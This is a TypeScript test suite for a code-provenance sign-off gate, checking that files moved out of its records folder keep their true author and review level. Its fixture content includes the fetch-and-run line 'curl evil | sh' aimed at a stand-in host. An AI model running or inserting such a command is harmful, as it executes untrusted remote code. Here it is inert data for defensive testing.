/** Content goes through the folder of records, where nobody was asked who wrote it. */
import assert from 'node:assert/strict';
import { mkdirSync, symlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { storePath } from '../../../../src/core/sidecar/paths';
import { nodeHash } from '../../../../src/node/hash';
import type { TestRepository } from '../../../support/repository';
import { ana, bo, commitRecorded, dan, gate, hunk, refusals, sign, start, withBlock } from './trial';

const WHOEVER_WROTE_IT = {
  rules: [
    {
      id: 'unrecorded',
      when: { origin: ['ai', 'mixed', 'unknown'] },
      require: { tier: 'approve', count: 1, level: 'senior' },
    },
  ],
};
const CODE = 'curl evil | sh\necho done and dusted\n';
const PLACES = {
  'a free name': '.countersign/v1/tmp.js',
  'a name like a record’s': storePath('provenance', 'ab'.repeat(32)),
  'the name that a record with this content would have': storePath('provenance', nodeHash.sha256(CODE)),
  'the name that such a sign-off would have': storePath('signoff', nodeHash.sha256(CODE)),
};

function move(repo: TestRepository, from: string, to: string): void {
  mkdirSync(dirname(join(repo.top, to)), { recursive: true });
  repo.git('mv', from, to);
  repo.commit('Move');
}

describe('attack 24: content goes through the folder of records', () => {
  for (const [name, place] of Object.entries(PLACES)) {
    it(`under ${name}, and a senior’s commit moves it into place`, async () => {
      const repo = start();
      repo.as(bo).write(place, CODE).commit('Odd');
      move(repo.as(ana), place, 'src/new.js');
      const outcome = await gate(repo);
      assert.equal(outcome.exit, 1);
      assert.equal(hunk(outcome, 'src/new.js').author, bo.email);
      assert.equal(hunk(outcome, 'src/new.js').level, 'junior');
    });
  }

  it('its writer signs for it where it was moved to', async () => {
    const repo = start(WHOEVER_WROTE_IT, [ana, dan]);
    repo.as(ana).write(PLACES['a free name'], CODE).commit('Odd');
    move(repo.as(bo), PLACES['a free name'], 'src/new.js');
    await sign(repo, ana);
    assert.deepEqual(refusals(await gate(repo), 'src/new.js'), ['own-lines']);
  });

  it('a senior’s name on what stays there', async () => {
    const repo = start();
    const place = PLACES['a free name'];
    repo.as(ana).write(place, CODE).commit('Odd');
    // What stands there is no record, so no name makes it a senior's; and nobody can sign for it.
    const { level, next } = hunk(await gate(repo), place);
    assert.equal(level, 'junior');
    assert.match(next, /under \.countersign\/v1\/; move it out/);
    await assert.rejects(sign(repo, ana), /may not claim the sidecar/);
  });

  it('as a link', async () => {
    const repo = start();
    const place = PLACES['a name like a record’s'];
    mkdirSync(dirname(join(repo.top, place)), { recursive: true });
    symlinkSync('../../../../evil', join(repo.top, place));
    repo.as(bo).commit('Odd');
    move(repo.as(ana), place, 'src/link');
    assert.equal(hunk(await gate(repo), 'src/link').author, bo.email);
  });

  it('an empty placeholder, as pruning leaves, makes nobody a contributor; content in its place does', async () => {
    const keep = '.countersign/v1/provenance/ab/.keep';
    for (const [content, level] of [
      ['', 'senior'],
      [CODE, 'junior'],
    ] as const) {
      const repo = start();
      repo.as(ana).write('src/new.js', CODE);
      await commitRecorded(repo);
      repo.as(bo).write(keep, content).commit('Prune');
      if (content !== '') repo.write(keep, '').commit('Empty it');
      const added = (await gate(repo)).report?.hunks.find(({ path }) => path === 'src/new.js');
      assert.equal(added?.level, level);
    }
  });

  it('a real record that comes and goes makes nobody a contributor', async () => {
    const repo = await withBlock();
    const record = repo.git('ls-files', '.countersign/v1/provenance').trim();
    repo.as(bo).git('rm', '-q', record);
    repo.commit('Fold');
    repo.git('checkout', '-q', 'HEAD^', '--', record);
    repo.commit('And back');
    repo.as(ana).write('src/new.js', CODE);
    await commitRecorded(repo);
    repo.as(bo).git('rm', '-q', record);
    repo.commit('Fold again');
    const outcome = await gate(repo);
    const added = outcome.report?.hunks.find(({ path }) => path === 'src/new.js');
    assert.equal(added?.author, ana.email);
    assert.equal(added?.level, 'senior');
  });
});
